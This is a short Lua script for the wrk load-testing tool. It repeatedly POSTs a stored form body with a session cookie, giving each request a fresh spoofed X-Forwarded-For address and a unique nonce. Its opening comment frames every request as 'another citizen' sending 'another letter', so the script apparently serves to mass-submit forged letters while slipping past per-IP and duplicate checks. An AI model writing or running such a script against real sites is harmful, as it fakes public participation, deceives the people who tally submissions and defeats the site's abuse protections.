-- every request another citizen: another address behind the proxy, another letter
local n = 0
local body, cookie = os.getenv("LETTER_BODY"), os.getenv("LETTER_COOKIE")
math.randomseed(os.time())
local run = string.format("%08x%08x", math.random(0, 0x7fffffff), math.random(0, 0x7fffffff))
request = function()
  n = n + 1
  local headers = {["Content-Type"] = "application/x-www-form-urlencoded", ["Cookie"] = cookie,
    ["X-Forwarded-For"] = string.format("10.%d.%d.%d", math.floor(n / 65536) % 256, math.floor(n / 256) % 256, n % 256)}
  return wrk.format("POST", nil, headers, body .. "&once=" .. run .. string.format("%012x", n))
end
